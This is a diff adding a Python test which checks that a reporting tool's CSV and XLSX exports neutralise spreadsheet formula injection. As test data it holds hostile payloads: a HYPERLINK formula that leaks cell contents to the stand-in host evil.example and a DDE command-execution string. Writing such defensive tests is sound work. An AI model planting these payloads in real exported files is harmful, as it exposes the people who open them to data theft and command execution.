@@ -353,3 +353,37 @@ def test_cli_households_driven_csv(db_url: str, tmp_path: Path) -> None:
     assert table.exit_code == 0 and "带动 2 户" in table.stdout
     bad = CliRunner().invoke(app, ["report", "households-driven", "--period", "2026-13", "--db", db_url])
     assert bad.exit_code == 2
+
+
+def test_exports_neutralise_formula_text_and_keep_numbers_numbers() -> None:
+    """Issue 12 item 8: a household named ``=HYPERLINK("http://evil.example/?leak="&B2,"x")`` came back
+    as a live formula in XLSX and raw in CSV. Text starting with = + - @ tab or CR gets a leading
+    quote (OWASP CSV injection) and XLSX text cells are strings; money and counts stay numbers."""
+    from bangfu.reports.base import Column
+
+    evil = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
+    texts = [evil, "+1+2", "-3+4", "@SUM(A1)", "\t=1", "\r=1", "plain", "-"]
+    report = Report(
+        name="injection",
+        title="=cmd|' /C calc'!A0",
+        columns=[Column("name", "Name"), Column("amount", "Amount", "money"), Column("n", "Count", "int")],
+        rows=[{"name": text, "amount": -1250, "n": -3} for text in texts],
+        totals={"name": "Total", "amount": -1250 * len(texts), "n": -3 * len(texts)},
+        summary=["@evil summary"],
+    )
+    import csv
+
+    table = list(csv.reader(io.StringIO(to_csv(report).decode("utf-8-sig"), newline="")))
+    assert [row[0] for row in table[1 : 1 + len(texts)]] == [t if t in ("plain", "-") else "'" + t for t in texts]
+    assert all(row[1:] == ["-12.50", "-3"] for row in table[1 : 1 + len(texts)])  # numbers untouched
+    assert table[-1] == ["'@evil summary"]
+    sheet = load_workbook(io.BytesIO(to_xlsx(report))).active
+    assert sheet is not None
+    assert sheet["A1"].value == "'=cmd|' /C calc'!A0" and sheet["A1"].data_type == "s"
+    for offset, text in enumerate(texts):
+        name, amount, count = sheet[4 + offset][:3]
+        assert name.data_type == "s"
+        assert name.value == (text if text in ("plain", "-") else "'" + text)
+        assert amount.data_type == "n" and Decimal(str(amount.value)) == Decimal("-12.50")
+        assert count.data_type == "n" and count.value == -3
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
